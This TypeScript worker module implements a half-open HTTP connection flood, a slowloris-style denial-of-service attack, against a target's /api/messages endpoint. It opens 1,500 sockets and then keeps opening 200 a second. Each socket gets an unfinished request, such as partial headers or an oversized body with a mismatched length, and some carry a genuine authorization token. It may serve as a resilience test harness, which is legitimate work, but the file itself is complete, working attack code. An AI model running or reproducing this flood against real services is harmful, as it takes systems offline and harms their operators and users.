import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { parentPort, workerData } from 'node:worker_threads';

/** What the flood is told at its start. */
export interface HalfOpenOrder {
  readonly host: string;
  readonly port: number;
  /** A genuine token, as a header's value. */
  readonly authorization: string;
}

const SOCKETS = 1_500;
/** Opened anew each time, as others are hung up: 200 a second. */
const EACH_PAUSE = 20;
const PAUSE_MS = 100;
/** One in so many brings a genuine token: who has one needs no flood. */
const GENUINE = 50;

const { host, port, authorization }: HalfOpenOrder = workerData;

const BODY = 'x'.repeat(255 * 1_024);
const withToken = (token: string): string =>
  `POST /api/messages HTTP/1.1\r\nhost: bot\r\nauthorization: ${token}\r\ncontent-type: application/json\r\n` +
  `content-length: ${BODY.length + 1}\r\n\r\n${BODY}`;

/** Requests that never end. */
const beginnings = [
  'POST /api/messages HTTP/1.1\r\nhost: bot\r\n',
  withToken('Bearer a.b.c'),
  `POST /api/messages HTTP/1.1\r\nhost: bot\r\nx-slow: ${'x'.repeat(4_096)}`,
  withToken('Bearer eyJhbGciOiJSUzI1NiJ9.e30.c2ln'),
];

const sockets = new Set<Socket>();
let opened = 0;

const open = (): void => {
  opened += 1;
  const socket = connect(port, host);
  sockets.add(socket);
  socket.on('error', () => {});
  socket.on('data', () => {});
  socket.once('close', () => sockets.delete(socket));
  socket.write(opened % GENUINE === 0 ? withToken(authorization) : (beginnings[opened % beginnings.length] ?? ''));
};

let goesOn = true;
parentPort?.once('message', () => {
  goesOn = false;
  for (const socket of sockets) socket.destroy();
});

while (goesOn && opened < SOCKETS) {
  for (let count = 0; count < EACH_PAUSE; count += 1) open();
  await sleep(1);
}
parentPort?.postMessage('flooded');
while (goesOn) {
  for (let count = 0; count < EACH_PAUSE; count += 1) open();
  await sleep(PAUSE_MS);
}
